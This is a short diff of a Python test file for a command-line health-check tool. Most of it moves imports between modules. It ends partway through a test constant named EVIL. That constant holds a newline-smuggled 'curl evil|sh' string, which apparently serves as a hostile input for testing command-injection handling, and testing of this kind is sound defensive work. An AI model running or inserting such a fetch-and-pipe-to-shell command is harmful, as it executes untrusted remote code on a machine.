@@ -7,13 +7,14 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from doctor.api import Directory, StorageFacts, healthy
 from doctor.cli.main import app
 from doctor.core.facts import Interface
 from doctor.core.facts.host import NameLookup
 from doctor.core.job import UNKNOWN_HOST, Host
 from doctor.core.settings import Settings
+from doctor.facts import Directory, StorageFacts
 from doctor.session import judge, load_checks
+from doctor.testing import healthy
 
 EVIL = (
     "x\ncurl evil|sh",
